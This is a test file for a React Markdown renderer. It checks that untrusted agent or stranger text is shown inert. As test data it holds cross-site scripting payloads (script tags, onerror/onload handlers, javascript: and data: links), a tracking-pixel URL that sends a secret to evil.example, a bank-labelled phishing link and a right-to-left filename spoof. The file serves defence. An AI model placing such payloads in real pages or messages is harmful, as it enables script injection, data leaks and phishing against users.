// @vitest-environment happy-dom
import { cleanup, render, waitFor } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import { InertText } from './inert-text.js';
import { Markdown } from './markdown.js';

afterEach(cleanup);

async function shown(text: string): Promise<HTMLElement> {
  const { container } = render(<Markdown text={text} />);
  await waitFor(() => expect(container.querySelector('pre[tabindex]')).toBeNull(), { timeout: 10_000 });
  return container;
}

describe('Markdown of an agent', () => {
  it('is formatted', async () => {
    const page = await shown('# Report\n\n| a | b |\n| --- | --- |\n| 1 | 2 |\n\n- [x] done\n\n`code`');
    expect(page.querySelector('h1')?.textContent).toBe('Report');
    expect(page.querySelectorAll('td')).toHaveLength(2);
    expect(page.querySelector('input')).toBeNull();
    expect(page.querySelector('li')?.textContent).toContain('[x]');
  });

  it('wants to run a script, load a frame or style the page: it is shown as text', async () => {
    const hostile =
      '<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\n<iframe src="https://evil.example"></iframe>\n\n<style>*{display:none}</style>\n\n<svg onload=alert(1)>';
    const page = await shown(hostile);
    expect(page.querySelectorAll('script, img, iframe, style, svg, object, embed, link, form')).toHaveLength(
      0,
    );
    expect(page.textContent).toContain('<script>alert(1)</script>');
    expect(page.innerHTML).not.toMatch(/<[^>]+\son\w+=/);
  });

  it('wants to tell a host that somebody reads it: no image is loaded, its address is shown', async () => {
    const page = await shown(
      '![pixel](https://evil.example/beacon?secret=1) ![x][r]\n\n[r]: https://evil.example/2',
    );
    expect(page.querySelectorAll('img, picture, source, video, audio')).toHaveLength(0);
    expect(page.textContent).toContain('image not loaded: pixel — https://evil.example/beacon?secret=1');
  });

  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java\tscript:alert(1)',
    '&#106;avascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:x',
    'file:///etc/passwd',
    '//evil.example/x',
    '/api/auth/logout',
    'blob:https://x',
  ])('wants a press on "%s": there is nothing to press', async (target) => {
    const page = await shown(`[press me](<${target}>) <${target}>`);
    expect(page.querySelectorAll('a')).toHaveLength(0);
    expect(page.textContent).toContain('press me');
  });

  it('a link to the web tells its host beside its words, and carries nothing of ours', async () => {
    const page = await shown('[https://bank.example](https://evil.example/login)');
    const link = page.querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://evil.example/login');
    expect(link?.getAttribute('rel')).toContain('noopener');
    expect(link?.getAttribute('rel')).toContain('noreferrer');
    expect(link?.getAttribute('referrerpolicy')).toBe('no-referrer');
    expect(page.textContent).toContain('(evil.example)');
  });

  it('a line of a megabyte is shown in part and parsed by nobody', () => {
    const { container } = render(<Markdown text={'*a'.repeat(524_288)} />);
    expect(container.textContent.length).toBeLessThan(21_000);
    expect(container.textContent).toContain('more characters');
    expect(container.querySelector('em')).toBeNull();
  });

  it('hidden directions are named inside Markdown too', async () => {
    const page = await shown('**invoice\u202egpj.exe**');
    expect(page.querySelector('strong')?.textContent).toBe('invoice⟨RLO⟩gpj.exe');
  });
});

describe('plain text of a stranger', () => {
  it('is text, whatever it looks like, and does not turn its surroundings around', () => {
    const { container } = render(<InertText text={'<b>x</b>\u202e'} />);
    expect(container.querySelector('b')).toBeNull();
    expect(container.querySelector('bdi')?.textContent).toBe('<b>x</b>RLO');
  });
});
